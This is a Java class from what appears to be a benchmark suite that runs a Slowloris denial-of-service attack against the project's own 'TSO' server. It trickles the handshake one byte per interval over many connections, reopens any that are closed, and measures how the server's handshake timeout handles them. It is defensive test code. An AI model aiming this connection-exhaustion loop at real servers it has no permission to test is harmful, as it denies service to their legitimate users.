package io.tidemark.bench.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * Connections that send their HELLO one byte a second, so that it never completes in time; each one closed by the TSO
 * is opened again. Before the handshake timeout existed, such connections were never closed.
 */
public final class Slowloris implements Attack {

    private final int count;
    private final Duration byteInterval;
    private int opened;
    private int closedByTso;
    private long longestLifeMillis;
    private final List<Long> lifetimes = new ArrayList<>();

    /** @param byteInterval time between two bytes of one connection (one second in the attack) */
    public Slowloris(int count, Duration byteInterval) {
        this.count = count;
        this.byteInterval = byteInterval;
    }

    @Override
    public String name() {
        return count + " slowloris connections (1 byte per " + byteInterval.toMillis() + " ms)";
    }

    @Override
    public void run(InetSocketAddress tso, Duration duration) throws InterruptedException {
        long deadline = System.nanoTime() + duration.toNanos();
        byte[] hello = RawConnection.hello();
        RawConnection[] connections = new RawConnection[count];
        int[] sent = new int[count];
        try {
            while (System.nanoTime() < deadline) {
                long tick = System.nanoTime();
                for (int i = 0; i < count && System.nanoTime() < deadline; i++) {
                    try {
                        if (connections[i] == null) {
                            connections[i] = new RawConnection(tso, 1);
                            sent[i] = 0;
                            opened++;
                        }
                        connections[i].write(hello, sent[i] % hello.length, 1);
                        sent[i]++;
                    } catch (IOException e) {
                        if (connections[i] != null) {
                            closedByTso++;
                            lifetimes.add(connections[i].ageMillis());
                            longestLifeMillis = Math.max(longestLifeMillis, connections[i].ageMillis());
                            connections[i].close();
                            connections[i] = null;
                        }
                    }
                }
                Attacks.sleepUntil(Math.min(deadline, tick + byteInterval.toNanos()));
            }
        } finally {
            for (RawConnection c : connections) {
                if (c != null) {
                    c.close();
                }
            }
        }
    }

    @Override
    public String outcome() {
        return opened + " opened, " + closedByTso + " closed by the TSO (longest lived " + longestLifeMillis
                + " ms; the attacker notices a close at its next byte)";
    }

    /** Connections the TSO closed. */
    public int closedByTso() {
        return closedByTso;
    }
}
